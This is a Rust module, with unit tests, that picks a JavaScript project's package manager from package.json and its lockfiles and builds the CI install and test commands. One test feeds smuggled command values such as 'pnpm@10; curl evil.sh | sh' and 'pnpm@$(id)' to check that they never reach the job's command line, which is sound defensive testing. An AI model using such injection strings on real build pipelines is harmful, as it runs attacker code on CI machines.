//! The JavaScript package manager a project installs with, so that the CI job `generate` writes
//! (`ci_serve.rs`) installs and tests the way the project does: `npm ci` fails without a
//! `package-lock.json`, and a pnpm workspace, a Yarn project or a Bun one has its own lockfile
//! and commands.
//!
//! Read from each JavaScript package's folder (`packages`), where the job's commands run:
//! `package.json`'s `packageManager` field first (Node.js docs, Corepack: `"pnpm@10.2.0"`),
//! then the lockfile each manager writes (`pnpm-lock.yaml`, `yarn.lock`, `bun.lock` or `bun.lockb`,
//! `package-lock.json` or `npm-shrinkwrap.json`); Yarn 2+ by its `.yarnrc.yml` or the
//! `__metadata:` its lockfile starts with.

use std::path::Path;

/// A package manager, with what tells its versions apart where their commands differ.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub(crate) enum PackageManager {
    /// npm with a lockfile: `npm ci` (npm docs: `npm ci` needs `package-lock.json` or
    /// `npm-shrinkwrap.json`). What a plan made without a folder assumes.
    #[default]
    Npm,
    /// npm without a lockfile: `npm install`.
    NpmWithoutLockfile,
    /// pnpm, at the version `packageManager` pins (else its current major, 10).
    Pnpm(Option<String>),
    /// Yarn 1 ("classic"), which GitHub's Ubuntu runners have installed: `yarn install
    /// --frozen-lockfile`.
    YarnClassic,
    /// Yarn 2 or later (`packageManager: "yarn@4..."` or a `.yarnrc.yml`), run through Corepack,
    /// which Node.js 22 ships (Yarn docs, installation): `yarn install --immutable`.
    YarnBerry,
    /// Bun (`oven-sh/setup-bun`, Bun docs, CI/CD): `bun install --frozen-lockfile`; the tests
    /// run as `bun run test`, the `test` script (`bun test` is Bun's own test runner).
    Bun,
    /// pnpm, Yarn or Bun named by `packageManager` in a folder without its lockfile: installed
    /// without freezing one that is not there (`pnpm install --frozen-lockfile` refuses to
    /// run without `pnpm-lock.yaml`, Yarn 2+ refuses to create `yarn.lock` on CI unless
    /// immutable installs are off: `YARN_ENABLE_IMMUTABLE_INSTALLS`, Yarn docs, yarnrc).
    Unlocked(Box<PackageManager>),
}

/// What installs a package's dependencies (`PackageManager::install`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Install {
    /// Sets the manager up, once per job, in no folder in particular.
    pub(crate) setup: Option<String>,
    /// Installs, in the package's folder.
    pub(crate) run: String,
}

impl Install {
    /// Both commands, in the order they run.
    #[cfg(test)]
    fn commands(&self) -> Vec<&str> {
        self.setup
            .iter()
            .map(String::as_str)
            .chain([self.run.as_str()])
            .collect()
    }
}

/// A JavaScript package of the project: a folder with a `package.json` whose targets the CI
/// job installs and tests there, with the manager its own files name.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub(crate) struct Package {
    /// Its folder, relative to the descriptor's (empty for that one).
    pub(crate) dir: String,
    /// Its package manager.
    pub(crate) manager: PackageManager,
}

/// The package of a plan made without a folder: the descriptor's, with npm.
pub(crate) static ROOT: Package = Package {
    dir: String::new(),
    manager: PackageManager::Npm,
};

/// The packages of the project whose descriptor is in `base`, for the targets in `dirs`: for
/// each target, the nearest workspace root at or above its folder, within the project (a
/// `package.json` with `workspaces`, the field of npm, Yarn and Bun workspaces, or a
/// `pnpm-workspace.yaml` beside it: the root installs every member with its one lockfile and
/// its `test` script runs theirs), else the nearest folder with a `package.json` (an app of
/// its own: `apps/web` and `apps/api` beside a root `package.json` that only holds tooling,
/// husky or prettier, are each their own); none found, the descriptor's folder. Folders are
/// read in their normal form ([`crate::project_path::normalize`]: `./apps/web/`, `apps\web` and
/// `apps/../apps/web` are `apps/web`) and written with `/` on every system, since the CI job
/// runs on Linux; a `dir` that leaves the project has no package of its own.
pub(crate) fn packages<'a>(base: &Path, dirs: impl IntoIterator<Item = &'a str>) -> Vec<Package> {
    let package = |dir: &str| Package {
        dir: dir.to_owned(),
        manager: PackageManager::of(&base.join(dir)),
    };
    let found = roots(base, dirs, "package.json", is_workspace_root);
    if found.is_empty() {
        return vec![package("")];
    }
    found.iter().map(|d| package(d)).collect()
}

/// The folders of the projects the targets in `dirs` belong to by `manifest` ([`nearest_root`]),
/// each once, in the order of the targets.
pub(crate) fn roots<'a>(
    base: &Path,
    dirs: impl IntoIterator<Item = &'a str>,
    manifest: &str,
    is_workspace: impl Fn(&Path) -> bool,
) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    for dir in dirs {
        if let Some(d) = nearest_root(base, dir, manifest, &is_workspace)
            && !found.contains(&d)
        {
            found.push(d);
        }
    }
    found
}

/// The folder, relative to `base`, of the project a target in `dir` belongs to by `manifest`
/// (`package.json`, `Cargo.toml`): the outermost folder at or above `dir`, up to `base`, whose
/// manifest `is_workspace` says is a workspace's, else the nearest with `manifest`; `None`
/// when no folder has it or `dir` leaves the project. `/`-separated, empty for `base`.
pub(crate) fn nearest_root(
    base: &Path,
    dir: &str,
    manifest: &str,
    is_workspace: impl Fn(&Path) -> bool,
) -> Option<String> {
    let normal = crate::project_path::in_project(dir)?;
    let has = |d: &str| base.join(d).join(manifest).is_file();
    // The folder and each above it, up to the descriptor's (`""`).
    let mut at = Some(normal.as_str());
    let mut nearest = None;
    let mut workspace = None;
    while let Some(d) = at {
        if has(d) {
            nearest = nearest.or(Some(d));
            if is_workspace(&base.join(d)) {
                workspace = Some(d);
            }
        }
        at = (!d.is_empty()).then(|| d.rsplit_once('/').map_or("", |(parent, _)| parent));
    }
    workspace.or(nearest).map(str::to_owned)
}

/// Whether the folder `dir` is the root of a JavaScript workspace: its `package.json` has
/// `workspaces` (npm docs, workspaces; Yarn and Bun read the same field), or a
/// `pnpm-workspace.yaml` is beside it (pnpm docs, workspaces).
fn is_workspace_root(dir: &Path) -> bool {
    dir.join("pnpm-workspace.yaml").is_file()
        || crate::input::read_convention_file(&dir.join("package.json"))
            .is_some_and(|text| top_level_value(&text, "workspaces").is_some())
}

/// The package of the target in `dir` among `packages`: the one whose folder holds it, the
/// deepest; else the descriptor's folder's, or [`ROOT`]. `dir` is read in its normal form, as
/// [`packages`] reads it.
pub(crate) fn package_of<'a>(packages: &'a [Package], dir: &str) -> &'a Package {
    let root = || packages.iter().find(|p| p.dir.is_empty()).unwrap_or(&ROOT);
    holding(packages, |p| &p.dir, dir).unwrap_or_else(root)
}

/// Among `items`, each with a folder (`folder_of`, `/`-separated, relative to the
/// descriptor's, empty for it), the one whose folder holds `dir` (read in its normal form),
/// the deepest; `None` when none but the descriptor's folder does, or `dir` leaves the project.
pub(crate) fn holding<'a, T>(
    items: &'a [T],
    folder_of: impl Fn(&T) -> &str,
    dir: &str,
) -> Option<&'a T> {
    let dir = crate::project_path::in_project(dir)?;
    items
        .iter()
        .filter(|item| {
            let folder = folder_of(item);
            !folder.is_empty()
                && dir
                    .strip_prefix(folder)
                    .is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
        })
        .max_by_key(|item| folder_of(item).len())
}

/// Whether a `yarn.lock` is Yarn 2+'s: its header has `__metadata:` (Yarn 1's says `# yarn
/// lockfile v1` and has none), within its first kilobyte, which is all that is read.
fn yarn_berry_lockfile(path: &Path) -> bool {
    use std::io::Read as _;
    let Ok(file) = std::fs::File::open(path) else {
        return false;
    };
    let mut head = Vec::with_capacity(1024);
    if file.take(1024).read_to_end(&mut head).is_err() {
        return false;
    }
    String::from_utf8_lossy(&head)
        .lines()
        .any(|line| line.starts_with("__metadata:"))
}

/// pnpm's major version when nothing pins one.
const PNPM_MAJOR: &str = "10";

impl PackageManager {
    /// The package manager of the project in `dir`.
    #[must_use]
    pub(crate) fn of(dir: &Path) -> PackageManager {
        // Read by convention: a regular file within the input bound, else as if absent (a
        // FIFO or a link to `/dev/zero` is never waited on or read without end).
        let package_json = crate::input::read_convention_file(&dir.join("package.json"));
        let has = |f: &str| dir.join(f).is_file();
        let npm_lockfile = has("package-lock.json") || has("npm-shrinkwrap.json");
        match package_json.as_deref().and_then(declared) {
            // `npm ci` needs the lockfile, whatever the field says.
            Some(PackageManager::Npm) if !npm_lockfile => {
                return PackageManager::NpmWithoutLockfile;
            }
            Some(pm) => {
                let locked = match pm {
                    PackageManager::Pnpm(_) => has("pnpm-lock.yaml"),
                    PackageManager::YarnClassic | PackageManager::YarnBerry => has("yarn.lock"),
                    PackageManager::Bun => has("bun.lock") || has("bun.lockb"),
                    _ => true,
                };
                return if locked {
                    pm
                } else {
                    PackageManager::Unlocked(Box::new(pm))
                };
            }
            None => {}
        }
        if has("pnpm-lock.yaml") {
            PackageManager::Pnpm(None)
        } else if has("yarn.lock") {
            if has(".yarnrc.yml") || yarn_berry_lockfile(&dir.join("yarn.lock")) {
                PackageManager::YarnBerry
            } else {
                PackageManager::YarnClassic
            }
        } else if has("bun.lock") || has("bun.lockb") {
            PackageManager::Bun
        } else if npm_lockfile || package_json.is_none() {
            PackageManager::Npm
        } else {
            PackageManager::NpmWithoutLockfile
        }
    }

    /// What installs the dependencies: a command that sets the manager up once for the job
    /// (pnpm through npm, Yarn 2+ through Corepack), then the install, run in each package's
    /// folder.
    #[must_use]
    pub(crate) fn install(&self) -> Install {
        match self {
            PackageManager::Unlocked(pm) => pm.install_with(false),
            pm => pm.install_with(true),
        }
    }

    /// [`PackageManager::install`], holding the lockfile as it is (`frozen`) or free to write
    /// one.
    fn install_with(&self, frozen: bool) -> Install {
        let (frozen_flag, immutable) = if frozen {
            (" --frozen-lockfile", "yarn install --immutable")
        } else {
            ("", "YARN_ENABLE_IMMUTABLE_INSTALLS=false yarn install")
        };
        let (setup, run) = match self {
            PackageManager::Npm => (None, "npm ci".to_owned()),
            PackageManager::NpmWithoutLockfile => (None, "npm install".to_owned()),
            PackageManager::Pnpm(version) => (
                Some(format!(
                    "npm install --global pnpm@{}",
                    version.as_deref().unwrap_or(PNPM_MAJOR)
                )),
                format!("pnpm install{frozen_flag}"),
            ),
            PackageManager::YarnClassic => (None, format!("yarn install{frozen_flag}")),
            // Yarn's shims alone: `corepack enable` would also put its pnpm shim over the
            // pnpm that `npm install --global` set up for another package, or make that
            // install fail (npm refuses to replace a file it does not own, EEXIST).
            PackageManager::YarnBerry => (
                Some("corepack enable yarn".to_owned()),
                immutable.to_owned(),
            ),
            PackageManager::Bun => (None, format!("bun install{frozen_flag}")),
            PackageManager::Unlocked(pm) => return pm.install_with(frozen),
        };
        Install { setup, run }
    }

    /// The command that runs the `test` script.
    #[must_use]
    pub(crate) fn test(&self) -> &'static str {
        match self {
            PackageManager::Npm | PackageManager::NpmWithoutLockfile => "npm test",
            PackageManager::Pnpm(_) => "pnpm test",
            PackageManager::YarnClassic | PackageManager::YarnBerry => "yarn test",
            PackageManager::Bun => "bun run test",
            PackageManager::Unlocked(pm) => pm.test(),
        }
    }

    /// The command that adds a dependency to `package.json` and the lockfile (npm docs:
    /// `npm install <pkg>`; pnpm, Yarn and Bun docs: `add`), for the guide: `npm install` in
    /// a pnpm or Bun project would write a `package-lock.json` beside their lockfile.
    #[must_use]
    pub(crate) fn add(&self) -> &'static str {
        match self {
            PackageManager::Npm | PackageManager::NpmWithoutLockfile => "npm install",
            PackageManager::Pnpm(_) => "pnpm add",
            PackageManager::YarnClassic | PackageManager::YarnBerry => "yarn add",
            PackageManager::Bun => "bun add",
            PackageManager::Unlocked(pm) => pm.add(),
        }
    }

    /// The manager, locked or not: `Unlocked(pm)`'s `pm`.
    fn named(&self) -> &PackageManager {
        match self {
            PackageManager::Unlocked(pm) => pm.named(),
            pm => pm,
        }
    }

    /// Whether `self` and `other` are one tool, whatever its version or lockfile (pnpm 9 and
    /// pnpm 10): setting one up replaces the other's set-up.
    #[must_use]
    pub(crate) fn same_tool(&self, other: &PackageManager) -> bool {
        std::mem::discriminant(self.named()) == std::mem::discriminant(other.named())
    }

    /// Whether the job sets Bun up (`oven-sh/setup-bun@v2`).
    #[must_use]
    pub(crate) fn is_bun(&self) -> bool {
        match self {
            PackageManager::Unlocked(pm) => pm.is_bun(),
            pm => *pm == PackageManager::Bun,
        }
    }
}

/// The manager `package.json`'s top-level `packageManager` field names
/// (`"pnpm@10.2.0+sha512.abc"`): its version kept only when it is a plain version (digits,
/// letters, dots and dashes), since it goes into a command line of the job. The same key
/// inside another object (`devEngines.packageManager`) or inside a string is not the field.
fn declared(package_json: &str) -> Option<PackageManager> {
    let value = top_level_string(package_json, "packageManager")?;
    let (name, version) = value.split_once('@').unwrap_or((value, ""));
    let version = version.split('+').next().unwrap_or_default();
    let plain = !version.is_empty()
        && version.len() <= 64
        && version
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-');
    let major = version
        .split('.')
        .next()
        .and_then(|m| m.parse::<u32>().ok());
    Some(match name {
        "pnpm" => PackageManager::Pnpm(plain.then(|| version.to_owned())),
        "yarn" if major.is_some_and(|m| m >= 2) => PackageManager::YarnBerry,
        "yarn" => PackageManager::YarnClassic,
        "bun" => PackageManager::Bun,
        "npm" => PackageManager::Npm,
        _ => return None,
    })
}

/// The string value of `key` in the outermost object of JSON `text`, as written (escapes
/// left in, which no plain version has); `None` when the key is not there, its value is not a
/// string, or the text ends first.
fn top_level_string<'a>(text: &'a str, key: &str) -> Option<&'a str> {
    let i = top_level_value(text, key)?;
    let rest = text.get(i..)?.strip_prefix('"')?;
    let bytes = rest.as_bytes();
    let mut j = 0;
    while j < bytes.len() {
        match bytes[j] {
            b'\\' => j += 2,
            b'"' => return Some(&rest[..j]),
            _ => j += 1,
        }
    }
    None
}

/// Where the value of `key` in the outermost object of JSON `text` starts; `None` when the
/// key is not there or the text ends first. Read without a JSON crate (the library has none):
/// strings are skipped whole, and only a string at depth one followed by `:` is a key.
fn top_level_value(text: &str, key: &str) -> Option<usize> {
    let bytes = text.as_bytes();
    // The end (one past the closing quote) of the string that opens at `at`.
    let string_end = |at: usize| -> Option<usize> {
        let mut i = at + 1;
        while i < bytes.len() {
            match bytes[i] {
                b'\\' => i += 2,
                b'"' => return Some(i + 1),
                _ => i += 1,
            }
        }
        None
    };
    let skip_space = |mut i: usize| {
        while bytes.get(i).is_some_and(u8::is_ascii_whitespace) {
            i += 1;
        }
        i
    };
    let (mut depth, mut i) = (0usize, 0usize);
    while i < bytes.len() {
        match bytes[i] {
            b'"' => {
                let end = string_end(i)?;
                let name = &text[i + 1..end - 1];
                i = end;
                let colon = skip_space(i);
                if depth == 1 && bytes.get(colon) == Some(&b':') {
                    i = skip_space(colon + 1);
                    if name == key {
                        return (i < bytes.len()).then_some(i);
                    }
                }
            }
            b'{' | b'[' => {
                depth += 1;
                i += 1;
            }
            b'}' | b']' => {
                depth = depth.saturating_sub(1);
                i += 1;
            }
            _ => i += 1,
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn folder(files: &[(&str, &str)]) -> std::path::PathBuf {
        use std::sync::atomic::{AtomicU32, Ordering};
        static N: AtomicU32 = AtomicU32::new(0);
        let dir = std::env::temp_dir().join(format!(
            "upwire-pm-{}-{}",
            std::process::id(),
            N.fetch_add(1, Ordering::Relaxed)
        ));
        std::fs::create_dir_all(&dir).unwrap();
        for (name, text) in files {
            let path = dir.join(name);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        }
        dir
    }

    /// The packages of a project with `files`, for targets in `dirs`, as (folder, manager).
    fn packages_of(files: &[(&str, &str)], dirs: &[&str]) -> Vec<(String, PackageManager)> {
        let base = folder(files);
        let found = packages(&base, dirs.iter().copied());
        std::fs::remove_dir_all(base).unwrap();
        found.into_iter().map(|p| (p.dir, p.manager)).collect()
    }

    /// A root workspace is the one package (it installs every member there); without one,
    /// each target's nearest folder with a `package.json` is a package with the manager of
    /// its own lockfile, also beside a root `package.json` that only holds tooling; a target
    /// in none, or outside the project, adds nothing.
    #[test]
    fn each_app_without_a_root_workspace_is_a_package_of_its_own() {
        let apps = [
            ("apps/web/package.json", "{}"),
            ("apps/web/pnpm-lock.yaml", ""),
            ("apps/api/package.json", "{}"),
            ("apps/api/package-lock.json", "{}"),
            ("services/job/main.rs", ""),
        ];
        assert_eq!(
            packages_of(
                &apps,
                &[
                    "apps/web",
                    "./apps/api/src/handlers",
                    "apps/web",
                    "services/job",
                    "../apps/web"
                ]
            ),
            [
                ("apps/web".to_owned(), PackageManager::Pnpm(None)),
                ("apps/api".to_owned(), PackageManager::Npm),
            ]
        );
        let mut workspace = apps.to_vec();
        workspace.extend([
            (
                "package.json",
                r#"{"private":true,"workspaces":["apps/*"]}"#,
            ),
            ("bun.lock", "{}"),
        ]);
        assert_eq!(
            packages_of(&workspace, &["apps/web", "apps/api", "."]),
            [(String::new(), PackageManager::Bun)]
        );
        let mut pnpm = apps.to_vec();
        pnpm.extend([
            ("package.json", "{}"),
            ("pnpm-workspace.yaml", "packages:\n  - apps/*\n"),
            ("pnpm-lock.yaml", ""),
        ]);
        assert_eq!(
            packages_of(&pnpm, &["apps/web", "apps/api"]),
            [(String::new(), PackageManager::Pnpm(None))]
        );
        // A root package.json of tooling (husky), no workspace: each app is its own, and a
        // target at the root is the root's.
        let mut tooling = apps.to_vec();
        tooling.extend([
            (
                "package.json",
                r#"{"devDependencies":{"husky":"9"},"scripts":{"workspaces":"x"}}"#,
            ),
            ("package-lock.json", "{}"),
        ]);
        assert_eq!(
            packages_of(&tooling, &["apps/web", "apps/api", "."]),
            [
                ("apps/web".to_owned(), PackageManager::Pnpm(None)),
                ("apps/api".to_owned(), PackageManager::Npm),
                (String::new(), PackageManager::Npm),
            ]
        );
        // No package.json anywhere: the descriptor's folder, npm.
        assert_eq!(
            packages_of(&[("main.rs", "")], &["."]),
            [(String::new(), PackageManager::Npm)]
        );
    }

    /// A project's root for a manifest: the outermost workspace at or above the folder, else
    /// the nearest manifest (Cargo's `[workspace]` here, as `Project::resolve` reads it).
    #[test]
    fn the_root_is_the_outermost_workspace_else_the_nearest_manifest() {
        let base = folder(&[
            ("rust/Cargo.toml", "[workspace]\nmembers = [\"jobs/*\"]\n"),
            ("rust/jobs/a/Cargo.toml", "[package]\nname = \"a\"\n"),
            ("lambda/Cargo.toml", "[package]\nname = \"l\"\n"),
        ]);
        let workspace = |d: &Path| {
            std::fs::read_to_string(d.join("Cargo.toml")).is_ok_and(|t| t.contains("[workspace]"))
        };
        let root = |dir| nearest_root(&base, dir, "Cargo.toml", workspace);
        assert_eq!(root("rust/jobs/a/src").as_deref(), Some("rust"));
        assert_eq!(root("lambda").as_deref(), Some("lambda"));
        assert_eq!(root("./lambda/src/bin").as_deref(), Some("lambda"));
        assert_eq!(root("web"), None);
        assert_eq!(root("../lambda"), None);
        std::fs::remove_dir_all(base).unwrap();
    }

    /// A target's package is the deepest that holds its folder; one outside every package
    /// (or out of the project with `..`) is the descriptor's folder's.
    #[test]
    fn a_target_belongs_to_the_deepest_package_that_holds_its_folder() {
        let p = |dir: &str, manager| Package {
            dir: dir.to_owned(),
            manager,
        };
        let packages = [
            p("", PackageManager::Npm),
            p("apps", PackageManager::YarnClassic),
            p("apps/web", PackageManager::Bun),
        ];
        let of = |dir| &package_of(&packages, dir).dir;
        assert_eq!(of("apps/web/src"), "apps/web");
        assert_eq!(of("./apps/web"), "apps/web");
        assert_eq!(of("apps/webhooks"), "apps");
        assert_eq!(of("apps/../apps/web"), "apps/web");
        assert_eq!(of("../apps/web"), "");
        assert_eq!(of("."), "");
        assert_eq!(package_of(&packages[1..], "lib").dir, "");
        assert_eq!(package_of(&[], "apps/web"), &ROOT);
    }

    /// A workspace below the descriptor's folder (a Rust service at the root, the JavaScript
    /// in `frontend/`): its members are installed and tested at its root, with its
    /// lockfile's manager (a stray lockfile in a member does not take it out), and a
    /// `package.json` outside it is a package of its own.
    #[test]
    fn members_of_a_workspace_below_the_root_are_its_package() {
        let files = [
            ("Cargo.toml", ""),
            ("frontend/package.json", "{}"),
            ("frontend/pnpm-lock.yaml", ""),
            ("frontend/pnpm-workspace.yaml", ""),
            ("frontend/apps/web/package.json", "{}"),
            ("frontend/apps/docs/package.json", "{}"),
            ("frontend/apps/bun/package.json", "{}"),
            ("frontend/apps/bun/bun.lock", "{}"),
            ("tools/cli/package.json", "{}"),
        ];
        assert_eq!(
            packages_of(
                &files,
                &[
                    "frontend/apps/web",
                    "frontend/apps/docs/src",
                    "frontend/apps/bun",
                    "tools/cli"
                ]
            ),
            [
                ("frontend".to_owned(), PackageManager::Pnpm(None)),
                ("tools/cli".to_owned(), PackageManager::NpmWithoutLockfile),
            ]
        );
    }

    /// A `dir` is read in its normal form, as the plan and `generate` read it: written with
    /// `\` (on Windows), `./`, a trailing `/` or a `..` that stays inside, it is the same
    /// folder, and a package's folder is written with `/` whatever the system (the job runs
    /// on Linux).
    #[test]
    fn a_dir_is_read_in_its_normal_form_and_a_package_written_with_slashes() {
        let apps = [
            ("apps/web/package.json", "{}"),
            ("apps/web/pnpm-lock.yaml", ""),
            ("apps/api/package.json", "{}"),
            ("apps/api/package-lock.json", "{}"),
        ];
        assert_eq!(
            packages_of(
                &apps,
                &["apps\\web\\src", "apps/../apps/api/", "./apps/web/"]
            ),
            [
                ("apps/web".to_owned(), PackageManager::Pnpm(None)),
                ("apps/api".to_owned(), PackageManager::Npm),
            ]
        );
        let p = |dir: &str| Package {
            dir: dir.to_owned(),
            manager: PackageManager::Npm,
        };
        let packages = [p("apps/web"), p("apps/api")];
        assert_eq!(package_of(&packages, "apps\\web\\src").dir, "apps/web");
        assert_eq!(package_of(&packages, "apps/api/").dir, "apps/api");
        assert_eq!(package_of(&packages, "apps/webhooks").dir, "");
    }

    fn of(files: &[(&str, &str)]) -> PackageManager {
        let dir = folder(files);
        let pm = PackageManager::of(&dir);
        std::fs::remove_dir_all(dir).unwrap();
        pm
    }

    const PKG: &str = r#"{ "name": "app", "scripts": { "test": "vitest run" } }"#;

    #[test]
    fn the_lockfile_names_the_manager() {
        assert_eq!(
            of(&[("package.json", PKG), ("package-lock.json", "{}")]),
            PackageManager::Npm
        );
        assert_eq!(
            of(&[("package.json", PKG)]),
            PackageManager::NpmWithoutLockfile
        );
        assert_eq!(
            of(&[
                ("package.json", PKG),
                ("pnpm-lock.yaml", "lockfileVersion: '9.0'\n")
            ]),
            PackageManager::Pnpm(None)
        );
        assert_eq!(
            of(&[("package.json", PKG), ("yarn.lock", "")]),
            PackageManager::YarnClassic
        );
        assert_eq!(
            of(&[
                ("package.json", PKG),
                ("yarn.lock", ""),
                (".yarnrc.yml", "")
            ]),
            PackageManager::YarnBerry
        );
        // Yarn 2+'s lockfile says so in its header, without a `.yarnrc.yml`; Yarn 1's does not.
        assert_eq!(
            of(&[
                ("package.json", PKG),
                (
                    "yarn.lock",
                    "# This file is generated by running \"yarn install\" inside your project.\n\
                     # Manual changes might be lost - proceed with caution!\n\n\
                     __metadata:\n  version: 8\n  cacheKey: 10c0\n"
                )
            ]),
            PackageManager::YarnBerry
        );
        assert_eq!(
            of(&[
                ("package.json", PKG),
                (
                    "yarn.lock",
                    "# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.\n# yarn lockfile v1\n\n\n\"@upstash/redis@^1.35.0\":\n  version \"1.35.0\"\n"
                )
            ]),
            PackageManager::YarnClassic
        );
        assert_eq!(
            of(&[("package.json", PKG), ("bun.lock", "{}")]),
            PackageManager::Bun
        );
        assert_eq!(
            of(&[("package.json", PKG), ("bun.lockb", "")]),
            PackageManager::Bun
        );
        // No package.json at all (a Rust project with a JavaScript target elsewhere).
        assert_eq!(of(&[]), PackageManager::Npm);
    }

    #[test]
    fn package_manager_field_wins_and_only_a_plain_version_is_kept() {
        let pkg = |pm: &str| format!(r#"{{ "name": "app", "packageManager": "{pm}" }}"#);
        assert_eq!(
            of(&[
                ("package.json", &pkg("pnpm@10.28.2+sha512.0a1b")),
                ("package-lock.json", "{}"),
                ("pnpm-lock.yaml", "")
            ]),
            PackageManager::Pnpm(Some("10.28.2".to_owned()))
        );
        assert_eq!(
            of(&[("package.json", &pkg("yarn@4.5.0")), ("yarn.lock", "")]),
            PackageManager::YarnBerry
        );
        assert_eq!(
            of(&[("package.json", &pkg("yarn@1.22.22")), ("yarn.lock", "")]),
            PackageManager::YarnClassic
        );
        assert_eq!(
            of(&[("package.json", &pkg("bun@1.3.3")), ("bun.lockb", "")]),
            PackageManager::Bun
        );
        // Not a version: nothing of it reaches the job's command line.
        for hostile in ["pnpm@10; curl evil.sh | sh", "pnpm@$(id)", "pnpm@"] {
            let pm = of(&[("package.json", &pkg(hostile)), ("pnpm-lock.yaml", "")]);
            assert_eq!(pm, PackageManager::Pnpm(None), "{hostile}");
            assert_eq!(pm.install().commands()[0], "npm install --global pnpm@10");
        }
        // Something else: the lockfile decides.
        assert_eq!(
            of(&[("package.json", &pkg("deno@2")), ("yarn.lock", "")]),
            PackageManager::YarnClassic
        );
    }

    /// Only the top-level field counts: `devEngines.packageManager` (an object) or the words
    /// inside a script are not it, and the field after them still is.
    #[test]
    fn only_the_top_level_package_manager_field_names_the_manager() {
        let text = r#"{
  "name": "app",
  "scripts": { "which": "node -p \"require('./package.json').packageManager\"" },
  "devEngines": { "packageManager": { "name": "yarn", "onFail": "warn" } },
  "packageManager": "yarn@4.5.3"
}"#;
        assert_eq!(
            of(&[("package.json", text), ("yarn.lock", "")]),
            PackageManager::YarnBerry
        );
        assert_eq!(top_level_string(text, "name"), Some("app"));
        assert_eq!(
            top_level_string(r#"{"packageManager": 4}"#, "packageManager"),
            None
        );
        assert_eq!(
            top_level_string(r#"{"packageManager": "pnpm@9"#, "packageManager"),
            None
        );
        assert_eq!(
            top_level_string(
                r#"{"a": "\"packageManager\": \"pnpm@9\""}"#,
                "packageManager"
            ),
            None
        );
    }

    /// `npm ci` fails without `package-lock.json`: a field naming npm in a project that has
    /// none installs with `npm install`.
    #[test]
    fn npm_named_by_the_field_without_a_lockfile_installs_without_ci() {
        let pkg = r#"{ "name": "app", "packageManager": "npm@10.9.2" }"#;
        assert_eq!(
            of(&[("package.json", pkg)]),
            PackageManager::NpmWithoutLockfile
        );
        assert_eq!(
            of(&[("package.json", pkg), ("package-lock.json", "{}")]),
            PackageManager::Npm
        );
    }

    /// `package.json` is read as every input is, bounded: past 8 MiB, binary or not a regular
    /// file (a FIFO, which would block the read forever), it is as if absent.
    #[test]
    fn an_oversized_binary_or_special_package_json_is_not_read() {
        let mut big = String::from(r#"{ "packageManager": "yarn@4.5.3", "description": ""#);
        big.push_str(&"x".repeat(9 * 1024 * 1024));
        big.push_str("\" }");
        assert_eq!(
            of(&[("package.json", &big), ("yarn.lock", "")]),
            PackageManager::YarnClassic
        );
        let binary = "{ \"packageManager\": \"yarn@4.5.3\" }\0";
        assert_eq!(
            of(&[("package.json", binary), ("yarn.lock", "")]),
            PackageManager::YarnClassic
        );
        #[cfg(unix)]
        {
            let dir = folder(&[("yarn.lock", "")]);
            let made = std::process::Command::new("mkfifo")
                .arg(dir.join("package.json"))
                .status()
                .expect("mkfifo runs");
            assert!(made.success());
            assert_eq!(PackageManager::of(&dir), PackageManager::YarnClassic);
            std::fs::remove_dir_all(dir).unwrap();
        }
    }

    /// A manager named by the field in a folder without its lockfile installs without
    /// freezing it (a frozen install fails there); its test command stays its own.
    #[test]
    fn a_named_manager_without_its_lockfile_installs_without_freezing_it() {
        let pkg = |pm: &str| format!(r#"{{ "name": "app", "packageManager": "{pm}" }}"#);
        let pnpm = of(&[("package.json", &pkg("pnpm@9.15.0"))]);
        assert_eq!(
            pnpm.install().commands(),
            ["npm install --global pnpm@9.15.0", "pnpm install"]
        );
        assert_eq!(pnpm.test(), "pnpm test");
        assert_eq!(
            of(&[("package.json", &pkg("yarn@4.5.3"))])
                .install()
                .commands(),
            [
                "corepack enable yarn",
                "YARN_ENABLE_IMMUTABLE_INSTALLS=false yarn install"
            ]
        );
        assert_eq!(
            of(&[("package.json", &pkg("yarn@1.22.22"))])
                .install()
                .commands(),
            ["yarn install"]
        );
        let bun = of(&[("package.json", &pkg("bun@1.3.3"))]);
        assert_eq!(bun.install().commands(), ["bun install"]);
        assert!(bun.is_bun() && bun.add() == "bun add");
        // With the lockfile: frozen.
        assert_eq!(
            of(&[("package.json", &pkg("bun@1.3.3")), ("bun.lock", "{}")])
                .install()
                .commands(),
            ["bun install --frozen-lockfile"]
        );
    }

    #[test]
    fn each_manager_installs_and_tests_its_own_way() {
        let pnpm = PackageManager::Pnpm(Some("9.15.0".to_owned()));
        assert_eq!(
            pnpm.install().commands(),
            [
                "npm install --global pnpm@9.15.0",
                "pnpm install --frozen-lockfile"
            ]
        );
        assert_eq!(pnpm.test(), "pnpm test");
        assert_eq!(PackageManager::Npm.install().commands(), ["npm ci"]);
        assert_eq!(
            PackageManager::NpmWithoutLockfile.install().commands(),
            ["npm install"]
        );
        assert_eq!(
            PackageManager::YarnBerry.install().commands(),
            ["corepack enable yarn", "yarn install --immutable"]
        );
        assert_eq!(PackageManager::Bun.test(), "bun run test");
        assert!(PackageManager::Bun.is_bun() && !PackageManager::Npm.is_bun());
    }
}
